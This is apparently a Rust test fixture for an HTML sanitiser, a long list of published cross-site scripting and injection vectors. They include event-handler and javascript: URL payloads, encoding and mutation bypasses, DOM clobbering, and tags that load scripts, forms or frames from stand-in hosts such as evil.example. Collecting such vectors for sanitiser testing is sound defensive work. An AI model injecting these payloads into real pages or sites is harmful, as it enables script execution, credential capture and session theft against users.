//! Pieces of HTML that have run scripts or fetched things where they should
//! not. Facts gathered from published lists, written for these tests:
//!
//! - `owasp`: OWASP, XSS Filter Evasion Cheat Sheet;
//! - `html5sec`: the HTML5 Security Cheatsheet (html5sec.org);
//! - `portswigger`: PortSwigger, Cross-site scripting cheat sheet;
//! - `mutation`: published bypasses of sanitisers by what browsers do to HTML
//!   that is written and read again (DOMPurify's release notes, Bentkowski,
//!   Heiderich);
//! - `request`: what loads or sends without a script;
//! - `clobber`: names that stand for properties of `document`;
//! - `frame`: what leads the whole page elsewhere.

pub(super) const VECTORS: &[(&str, &str)] = &[
    ("owasp", "<SCRIPT SRC=https://cdn.example/xss.js></SCRIPT>"),
    (
        "owasp",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    ),
    ("owasp", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("owasp", "<IMG SRC=javascript:alert('XSS')>"),
    ("owasp", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    ("owasp", "<IMG SRC=javascript:alert(&quot;XSS&quot;)>"),
    (
        "owasp",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    ),
    (
        "owasp",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    ),
    (
        "owasp",
        "<a onmouseover=alert(document.cookie)>xxs link</a>",
    ),
    ("owasp", "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>"),
    (
        "owasp",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    ),
    ("owasp", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("owasp", "<IMG SRC= onmouseover=\"alert('xxs')\">"),
    ("owasp", "<IMG onmouseover=\"alert('xxs')\">"),
    (
        "owasp",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    ),
    (
        "owasp",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    ),
    (
        "owasp",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
    ),
    (
        "owasp",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">x</a>",
    ),
    (
        "owasp",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29\">x</a>",
    ),
    ("owasp", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    ("owasp", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">"),
    ("owasp", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    ("owasp", "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">"),
    ("owasp", "<a href=\"java\0script:alert(1)\">x</a>"),
    ("owasp", "<IMG SRC=\" &#14; javascript:alert('XSS');\">"),
    (
        "owasp",
        "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    ),
    (
        "owasp",
        "<SCRIPT/SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    ("owasp", "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>"),
    ("owasp", "<SCRIPT SRC=https://xss.example/xss.js?< B >"),
    ("owasp", "<SCRIPT SRC=//xss.example/.j>"),
    ("owasp", "<IMG SRC=\"`<javascript:alert>`('XSS')\""),
    ("owasp", "<iframe src=http://xss.example/scriptlet.html <"),
    ("owasp", "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>"),
    (
        "owasp",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    ),
    ("owasp", "<BODY BACKGROUND=\"javascript:alert('XSS')\">"),
    ("owasp", "<IMG DYNSRC=\"javascript:alert('XSS')\">"),
    ("owasp", "<IMG LOWSRC=\"javascript:alert('XSS')\">"),
    (
        "owasp",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    ),
    ("owasp", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("owasp", "<IMG SRC=\"livescript:[code]\">"),
    ("owasp", "<svg/onload=alert('XSS')>"),
    ("owasp", "<BODY ONLOAD=alert('XSS')>"),
    ("owasp", "<BGSOUND SRC=\"javascript:alert('XSS');\">"),
    ("owasp", "<BR SIZE=\"&{alert('XSS')}\">"),
    (
        "owasp",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    ),
    (
        "owasp",
        "<LINK REL=\"stylesheet\" HREF=\"https://xss.example/xss.css\">",
    ),
    (
        "owasp",
        "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    ),
    (
        "owasp",
        "<META HTTP-EQUIV=\"Link\" Content=\"<https://xss.example/xss.css>; REL=stylesheet\">",
    ),
    (
        "owasp",
        "<STYLE>BODY{-moz-binding:url(\"https://xss.example/xssmoz.xml#xss\")}</STYLE>",
    ),
    (
        "owasp",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    ),
    (
        "owasp",
        "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    ),
    (
        "owasp",
        "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>",
    ),
    (
        "owasp",
        "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    ),
    (
        "owasp",
        "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    ),
    ("owasp", "<XSS STYLE=\"xss:expression(alert('XSS'))\">"),
    ("owasp", "<XSS STYLE=\"behavior: url(xss.htc);\">"),
    (
        "owasp",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    ),
    (
        "owasp",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    ),
    (
        "owasp",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    ),
    (
        "owasp",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    ),
    (
        "owasp",
        "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    ),
    (
        "owasp",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    ),
    ("owasp", "<TABLE BACKGROUND=\"javascript:alert('XSS')\">"),
    (
        "owasp",
        "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    ),
    (
        "owasp",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    ),
    (
        "owasp",
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061'\\0029\">",
    ),
    ("owasp", "<DIV STYLE=\"width: expression(alert('XSS'));\">"),
    (
        "owasp",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    ),
    ("owasp", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    (
        "owasp",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://xss.example/scriptlet.html\"></OBJECT>",
    ),
    (
        "owasp",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zy8+\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    ),
    (
        "owasp",
        "<SCRIPT SRC=\"https://xss.example/xss.jpg\"></SCRIPT>",
    ),
    (
        "owasp",
        "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    ),
    (
        "owasp",
        "<IMG SRC=\"https://www.example/somecommand.php?somevariables=maliciouscode\" ONERROR=x>",
    ),
    (
        "owasp",
        "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>alert('XSS')</SCRIPT>\">",
    ),
    (
        "owasp",
        "<SCRIPT a=\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<SCRIPT =\">\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<SCRIPT a=\">\" '' SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<SCRIPT \"a='>'\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<SCRIPT a=`>` SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<SCRIPT a=\">'>\" SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    ),
    (
        "owasp",
        "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    ),
    (
        "owasp",
        "<Img src = x onerror = \"javascript: window.onerror = alert; throw XSS\">",
    ),
    (
        "owasp",
        "<Video> <source onerror = \"javascript: alert (XSS)\">",
    ),
    ("owasp", "<Input value = \"XSS\" type = text>"),
    ("owasp", "<isindex type=image src=1 onerror=alert(1)>"),
    (
        "html5sec",
        "<form id=\"test\"></form><button form=\"test\" formaction=\"javascript:alert(1)\">X</button>",
    ),
    ("html5sec", "<input onfocus=write(1) autofocus>"),
    (
        "html5sec",
        "<input onblur=write(1) autofocus><input autofocus>",
    ),
    ("html5sec", "<video poster=javascript:alert(1)//></video>"),
    (
        "html5sec",
        "<body onscroll=alert(1)><br><br><br><input autofocus>",
    ),
    (
        "html5sec",
        "<form><button formaction=\"javascript:alert(1)\">X</button>",
    ),
    (
        "html5sec",
        "<video onerror=\"javascript:alert(1)\"><source></source></video>",
    ),
    (
        "html5sec",
        "<form><input type=\"image\" src=x formaction=\"javascript:alert(1)\">",
    ),
    (
        "html5sec",
        "<math href=\"javascript:alert(1)\">CLICKME</math>",
    ),
    (
        "html5sec",
        "<math><maction actiontype=\"statusline#http://google.com\" xlink:href=\"javascript:alert(2)\">CLICKME</maction></math>",
    ),
    ("html5sec", "<embed src=\"javascript:alert(1)\"></embed>"),
    (
        "html5sec",
        "<img src=\"javascript:alert(2)\"><image src=\"javascript:alert(2)\"><script src=\"javascript:alert(3)\"></script>",
    ),
    (
        "html5sec",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    ),
    (
        "html5sec",
        "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    ),
    (
        "html5sec",
        "<![><img src=\"]><img src=x onerror=alert(1)//\">",
    ),
    (
        "html5sec",
        "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    ),
    (
        "html5sec",
        "<li style=list-style:url() onerror=alert(1)></li>",
    ),
    (
        "html5sec",
        "<head><base href=\"javascript://\"/></head><body><a href=\"/. /,alert(1)//#\">XXX</a></body>",
    ),
    (
        "html5sec",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    ),
    ("html5sec", "<b <script>alert(1)//</script>0</script></b>"),
    (
        "html5sec",
        "<x '=\"foo\"><x foo='><img src=x onerror=alert(1)//'>",
    ),
    (
        "html5sec",
        "<embed src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">",
    ),
    ("html5sec", "<object data=\"javascript:alert(1)\"></object>"),
    (
        "html5sec",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><g onload=\"javascript:alert(1)\"></g></svg>",
    ),
    (
        "html5sec",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
    ),
    (
        "html5sec",
        "<svg><a xmlns:xlink=\"http://www.w3.org/1999/xlink\" xlink:href=\"javascript:alert(1)\"><rect width=\"1000\" height=\"1000\" fill=\"white\"/></a></svg>",
    ),
    (
        "html5sec",
        "<svg><a xlink:href=\"#\"><set attributeName=href to=\"javascript:alert(1)\"/><text>x</text></a></svg>",
    ),
    (
        "html5sec",
        "<svg><animate xlink:href=#x attributeName=href values=&#106;avascript:alert(1) /><a id=x><rect width=100 height=100 /></a></svg>",
    ),
    (
        "html5sec",
        "<svg><use xlink:href=\"data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x\"/></svg>",
    ),
    (
        "html5sec",
        "<svg><image style='filter:url(\"data:image/svg+xml;charset=utf-8;base64,PHN2Zz4=\")'></svg>",
    ),
    (
        "html5sec",
        "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
    ),
    (
        "html5sec",
        "<svg><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">alert(1)</handler></svg>",
    ),
    (
        "html5sec",
        "<svg><feImage xlink:href=\"https://evil.example/x\"/></svg>",
    ),
    (
        "html5sec",
        "<svg><style>@import url(https://evil.example/x.css);</style></svg>",
    ),
    (
        "html5sec",
        "<svg><script xlink:href=data:,alert(1)></script></svg>",
    ),
    (
        "html5sec",
        "<iframe srcdoc=\"&lt;img src&equals;x:x onerror&equals;alert&lpar;1&rpar;&gt;\" />",
    ),
    (
        "html5sec",
        "<iframe sandbox=\"allow-same-origin allow-scripts\" src=\"https://evil.example/\"></iframe>",
    ),
    (
        "html5sec",
        "<link rel=import href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">",
    ),
    (
        "html5sec",
        "<link rel=\"prefetch\" href=\"https://evil.example/\">",
    ),
    ("html5sec", "<frameset onload=alert(1)>"),
    (
        "html5sec",
        "<table background=\"javascript:alert(1)\"></table>",
    ),
    (
        "html5sec",
        "<div style=\"-webkit-binding:url(https://evil.example/x)\">a</div>",
    ),
    (
        "html5sec",
        "<title onpropertychange=alert(1)></title><title title=></title>",
    ),
    (
        "html5sec",
        "<var onmouseover=\"prompt(1)\">On Mouse Over</var>",
    ),
    (
        "html5sec",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    ),
    ("html5sec", "<a href=\"feed:javascript:alert(1)\">x</a>"),
    (
        "html5sec",
        "<a href=\"view-source:javascript:alert(1)\">x</a>",
    ),
    ("html5sec", "<a href=\"javascript&colon;alert(1)\">x</a>"),
    ("html5sec", "<a href=\"jav&#65ascript:alert(1)\">x</a>"),
    ("html5sec", "<a href=\"java&Tab;script:alert(1)\">x</a>"),
    ("html5sec", "<a href=\"&NewLine;javascript:alert(1)\">x</a>"),
    ("html5sec", "<a href=\"\u{1}javascript:alert(1)\">x</a>"),
    ("html5sec", "<a href=\"\u{a0}javascript:alert(1)\">x</a>"),
    ("html5sec", "<a href=\"\u{2028}javascript:alert(1)\">x</a>"),
    ("html5sec", "<a href='vbscript:MsgBox(\"XSS\")'>x</a>"),
    ("html5sec", "<a href=\"blob:https://x.example/1\">x</a>"),
    (
        "html5sec",
        "<a href=\"filesystem:https://x.example/temporary/1\">x</a>",
    ),
    ("html5sec", "<a href=\"file:///etc/passwd\">x</a>"),
    (
        "portswigger",
        "<xss id=x tabindex=1 onactivate=alert(1)></xss>",
    ),
    (
        "portswigger",
        "<details open ontoggle=alert(1)>test</details>",
    ),
    ("portswigger", "<details ontoggle=alert(1)>test</details>"),
    ("portswigger", "<audio src/onerror=alert(1)>"),
    (
        "portswigger",
        "<audio controls onloadstart=alert(1) src=x></audio>",
    ),
    ("portswigger", "<video src=x onloadstart=alert(1)></video>"),
    ("portswigger", "<marquee onstart=alert(1)>x</marquee>"),
    (
        "portswigger",
        "<marquee width=1 loop=1 onfinish=alert(1)>XSS</marquee>",
    ),
    ("portswigger", "<body onhashchange=\"print()\">"),
    ("portswigger", "<body onpageshow=alert(1)>"),
    (
        "portswigger",
        "<style>@keyframes x{}</style><xss style=\"animation-name:x\" onanimationend=\"alert(1)\"></xss>",
    ),
    (
        "portswigger",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    ),
    (
        "portswigger",
        "<svg><animatetransform onbegin=alert(1) attributeName=transform>",
    ),
    (
        "portswigger",
        "<svg><set onbegin=alert(1) attributename=x dur=1s>",
    ),
    ("portswigger", "<svg><discard onbegin=alert(1)>"),
    (
        "portswigger",
        "<svg><use href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='alert(1)' /&gt;&lt;/svg&gt;#x\" />",
    ),
    ("portswigger", "<input type=image src=1 onerror=alert(1)>"),
    (
        "portswigger",
        "<input type=submit formaction=javascript:alert(1) value=XSS>",
    ),
    (
        "portswigger",
        "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    ),
    (
        "portswigger",
        "<link rel=stylesheet href=1 onload=alert(1)>",
    ),
    (
        "portswigger",
        "<menu id=x contextmenu=x onshow=alert(1)>right click me!</menu>",
    ),
    ("portswigger", "<object onerror=alert(1)>"),
    (
        "portswigger",
        "<select autofocus onfocus=alert(1)></select>",
    ),
    (
        "portswigger",
        "<textarea autofocus onfocus=alert(1)></textarea>",
    ),
    ("portswigger", "<keygen autofocus onfocus=alert(1)>"),
    ("portswigger", "<track default src=1 onerror=alert(1)>"),
    (
        "portswigger",
        "<video controls><source src=x><track default oncuechange=alert(1) src=\"data:text/vtt,WEBVTT\"></video>",
    ),
    (
        "portswigger",
        "<dialog open onclose=alert(1)><form method=dialog><button>XSS</button></form>",
    ),
    (
        "portswigger",
        "<button popovertarget=x>Click me</button><xss onbeforetoggle=alert(1) popover id=x>XSS</xss>",
    ),
    (
        "portswigger",
        "<a href=# autofocus onfocusin=alert(1)>x</a>",
    ),
    (
        "portswigger",
        "<img usemap=#x><map name=\"x\"><area href=\"javascript:alert(1)\" shape=default></map>",
    ),
    (
        "portswigger",
        "<form action=\"javascript:alert(1)\"><input type=submit id=x></form><label for=x>XSS</label>",
    ),
    ("portswigger", "<iframe onload=alert(1)></iframe>"),
    (
        "portswigger",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
    ),
    (
        "portswigger",
        "<embed code=https://evil.example/x.swf allowscriptaccess=always>",
    ),
    (
        "portswigger",
        "<object data=\"https://evil.example/x.swf\"><param name=allowscriptaccess value=always></object>",
    ),
    (
        "portswigger",
        "<portal src='https://evil.example/'></portal>",
    ),
    (
        "portswigger",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ),
    ("portswigger", "<img src=x onerror=alert(1)//"),
    ("portswigger", "<svg><script>alert&lpar;1&rpar;</script>"),
    ("portswigger", "<svg><script href=\"data:,alert(1)\" />"),
    ("portswigger", "<img/src/onerror=alert(1)>"),
    ("portswigger", "<img src=x\nonerror=alert(1)>"),
    ("portswigger", "<img src=x\u{c}onerror=alert(1)>"),
    ("portswigger", "<img src=\"x\"onerror=\"alert(1)\">"),
    ("portswigger", "<img src='x'/onerror='alert(1)'>"),
    ("portswigger", "<img src=x onerror\n=\nalert(1)>"),
    ("portswigger", "<img src=x OnErRoR=alert(1)>"),
    (
        "portswigger",
        "<p onbeforecopy=\"alert(1)\" contenteditable>test</p>",
    ),
    (
        "portswigger",
        "<a id=x tabindex=1 onpointerrawupdate=alert(1)>x</a>",
    ),
    (
        "portswigger",
        "<div data-bind=\"value: alert(1)\" ng-app v-html=\"x\" x-data=\"alert(1)\" hx-get=\"/x\">x</div>",
    ),
    (
        "portswigger",
        "<template><img src=x onerror=alert(1)></template>",
    ),
    (
        "portswigger",
        "<div><template shadowrootmode=open><slot></slot><script>alert(1)</script></template></div>",
    ),
    (
        "mutation",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    ),
    (
        "mutation",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    ),
    (
        "mutation",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ),
    (
        "mutation",
        "<math><mtext><table><mglyph><style><math><table id=\"</table>\"><img src onerror=alert(1)\">",
    ),
    (
        "mutation",
        "<svg><style><a title=\"</style><img src onerror=alert(1)>\"></style></svg>",
    ),
    (
        "mutation",
        "<svg><desc><style><a title=\"</style><img src onerror=alert(1)>\"></desc></svg>",
    ),
    (
        "mutation",
        "<svg><title><style><a title=\"</style><img src onerror=alert(1)>\">",
    ),
    (
        "mutation",
        "<noscript><style></noscript><img src=x onerror=alert(1)>",
    ),
    (
        "mutation",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    ),
    (
        "mutation",
        "<noframes><img title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
    ),
    (
        "mutation",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    ),
    (
        "mutation",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    ),
    (
        "mutation",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    ),
    (
        "mutation",
        "<iframe><img title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    ),
    ("mutation", "<plaintext><img src=x onerror=alert(1)>"),
    (
        "mutation",
        "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    ),
    (
        "mutation",
        "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    ),
    (
        "mutation",
        "<svg><foreignobject><math><mi><style><a title=\"</style><img src onerror=alert(1)>\">",
    ),
    (
        "mutation",
        "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    ),
    ("mutation", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    (
        "mutation",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">",
    ),
    (
        "mutation",
        "<select><template><style><!--</style><a rel=\"--></style></template></select><img src=x onerror=alert(1)>\">",
    ),
    (
        "mutation",
        "<table><caption><svg><title><table><caption></caption></table></title><style><a id=\"</style><img src=x onerror=alert(1)>\"></a></style></svg></caption></table>",
    ),
    ("mutation", "<!--><img src=x onerror=alert(1)>-->"),
    ("mutation", "<!---><img src=x onerror=alert(1)>-->"),
    ("mutation", "<!-- --!><img src=x onerror=alert(1)>-->"),
    (
        "mutation",
        "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>&y;",
    ),
    (
        "mutation",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    ),
    ("mutation", "</ <img src=x onerror=alert(1)>"),
    (
        "mutation",
        "</a/onclick=alert(1)><a title='</a><img src=x onerror=alert(1)>'>",
    ),
    ("mutation", "<p id='\"><img src=x onerror=alert(1)>'>"),
    (
        "mutation",
        "<a title=\"a`b<img src=x onerror=alert(1)>\">x</a>",
    ),
    ("mutation", "<img alt=\"``onerror=alert(1)\" src=x>"),
    (
        "mutation",
        "<a href=\"x\" a=\"\" b='\"><img src=x onerror=alert(1)>'>",
    ),
    ("mutation", "<image src=x onerror=alert(1)>"),
    ("mutation", "<svg><image href=x onerror=alert(1)></svg>"),
    ("mutation", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("mutation", "<scr\0ipt>alert(1)</script>"),
    ("mutation", "<img src=x on\0error=alert(1)>"),
    ("mutation", "<\0script>alert(1)</script>"),
    (
        "mutation",
        "<svg/><style><img src=\"</style><img src=x onerror=alert(1)>\">",
    ),
    (
        "mutation",
        "<div><svg></div><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    ),
    (
        "request",
        "<div style=\"background:url(https://evil.example/x)\">x</div>",
    ),
    (
        "request",
        "<svg><rect fill=\"url(https://evil.example/x.svg#a)\"/></svg>",
    ),
    (
        "request",
        "<svg><rect fill=\"\\75rl(https://evil.example/x)\"/></svg>",
    ),
    (
        "request",
        "<svg><rect fill=\"u&#x72;l(//evil.example/x#a)\" filter=\"url(//evil.example/x#a)\" mask=\"url(//evil.example/x)\"/></svg>",
    ),
    (
        "request",
        "<svg><path marker-start=\"url('https://evil.example/x#a')\"/></svg>",
    ),
    (
        "request",
        "<svg><text font-family=\"image-set('https://evil.example/x' 1x)\">x</text></svg>",
    ),
    (
        "request",
        "<svg><image href=\"https://evil.example/x.png\"/></svg>",
    ),
    (
        "request",
        "<a href=\"https://ok.example\" ping=\"https://evil.example/\">x</a>",
    ),
    ("request", "<link rel=dns-prefetch href=//evil.example>"),
    (
        "request",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"img-src *\">",
    ),
    (
        "request",
        "<form action=\"https://evil.example/\"><input name=password type=password><input type=submit></form>",
    ),
    (
        "request",
        "<button formaction=\"https://evil.example/\">x</button>",
    ),
    ("request", "<iframe src=\"https://evil.example/\"></iframe>"),
    (
        "request",
        "<object data=\"https://evil.example/\"></object>",
    ),
    ("request", "<embed src=\"https://evil.example/\">"),
    (
        "request",
        "<applet code=\"x\" archive=\"https://evil.example/x.jar\"></applet>",
    ),
    ("request", "<html manifest=\"https://evil.example/x\">"),
    (
        "request",
        "<input type=image src=\"https://evil.example/x\">",
    ),
    ("request", "<input type=text value=x><input type=password>"),
    ("request", "<input type=radio name=other><input type=file>"),
    (
        "request",
        "<img srcset=\"javascript:alert(1) 2x\"><img srcset=\"data:text/html,x 1x, data:image/svg+xml,x 2x\">",
    ),
    (
        "request",
        "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    ),
    (
        "request",
        "<video src=\"data:video/mp4,x\" poster=\"data:image/svg+xml,x\"></video>",
    ),
    (
        "request",
        "<script type=\"speculationrules\">{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"https://evil.example\"]}]}</script>",
    ),
    (
        "request",
        "<base target=\"_top\" href=\"https://evil.example/\">",
    ),
    (
        "request",
        "<a href=\"x\" target=\"_top\">x</a><a href=\"x\" target=\"name\">x</a>",
    ),
    (
        "clobber",
        "<img name=cookie><img name=getElementById id=body>",
    ),
    ("clobber", "<form name=body><input name=attributes></form>"),
    (
        "clobber",
        "<iframe name=currentScript></iframe><embed name=forms><object name=scripts></object>",
    ),
    (
        "clobber",
        "<a id=x></a><a id=x name=y href=\"cid:alert(1)\"></a>",
    ),
    (
        "clobber",
        "<form id=x></form><form id=x name=y><input id=attributes></form>",
    ),
    (
        "clobber",
        "<div is=\"x-el\" slot=\"x\" part=\"y\" nonce=\"z\" itemprop=\"q\" contenteditable>x</div>",
    ),
    (
        "frame",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    ),
    (
        "frame",
        "</div></article></main></body><script>alert(1)</script>",
    ),
    (
        "frame",
        "</article></body></html><img src=x onerror=alert(1)>",
    ),
    ("frame", "<body><html><head><frameset><frame src=x>"),
    ("frame", "<table><tr><td></table></div></div></article>x"),
    (
        "frame",
        "<iframe src=\"https://video.example@evil.example/\"></iframe>",
    ),
    ("frame", "<iframe src=\"//video.example/\"></iframe>"),
    ("frame", "<iframe src=\"http://video.example/\"></iframe>"),
    (
        "frame",
        "<iframe src=\"https://video.example.evil.example/\"></iframe>",
    ),
    (
        "frame",
        "<iframe src=\"https://video.example/x\" srcdoc=\"<script>alert(1)</script>\" onload=alert(1) name=x allow=camera></iframe>",
    ),
];
